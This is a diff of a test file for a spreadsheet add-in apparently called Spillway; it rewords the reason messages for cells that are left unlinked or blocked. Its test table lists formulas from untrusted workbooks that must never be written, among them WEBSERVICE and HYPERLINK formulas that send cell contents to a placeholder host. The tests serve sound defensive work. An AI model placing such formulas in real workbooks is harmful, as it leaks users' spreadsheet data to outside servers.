@@ -64,7 +64,7 @@ test('a sheet that was renamed is found, one that is gone is listed', async () =
   sheet!.id = 'id-2';
   expect(await book()).toMatchObject({
     ready: [],
-    left: [{ cell: 'Sheet1!B2', why: 'was on a sheet that is gone' }, { cell: 'Sheet1!H2' }],
+    left: [{ cell: 'Sheet1!B2', why: 'was on a sheet that was deleted' }, { cell: 'Sheet1!H2' }],
   });
 });
 
@@ -131,9 +131,7 @@ test('what Excel refuses while relinking gets its values back', async () => {
     const { ready } = await book();
     excel.refuse = refuse;
     const report = await relink(ready);
-    expect(report.left).toEqual([
-      { cell: 'Sheet1!B2', why: 'is on a sheet that Excel doesn’t allow to be changed' },
-    ]);
+    expect(report.left).toEqual([{ cell: 'Sheet1!B2', why: 'is on a sheet that can’t be edited' }]);
     expect(excel.held).toEqual(before);
     expect((await relinkAll()).relinked).toHaveLength(1);
   }
@@ -187,11 +185,11 @@ describe('a workbook from someone else', () => {
   });
 
   test.each([
-    ['=WEBSERVICE("https://x.test/?"&B2)', 'is not a formula of Spillway'],
+    ['=WEBSERVICE("https://x.test/?"&B2)', 'is not a Spillway formula'],
     ['=BIZBUREAU.SEARCH(WEBSERVICE("https://x.test"))', 'uses WEBSERVICE'],
     ['=HYPERLINK("https://x.test/?"&BIZBUREAU.SEARCH("x"))', 'uses HYPERLINK'],
     ['=BIZBUREAU.SEARCH("x")+\'[Book2]S\'!A1', 'refers to another workbook'],
-    ['text', 'is not a formula of Spillway'],
+    ['text', 'is not a Spillway formula'],
   ])('never has %s written', async (given, why) => {
     const excel = new TypedExcel().install();
     const kept = hostile({ formula: given });
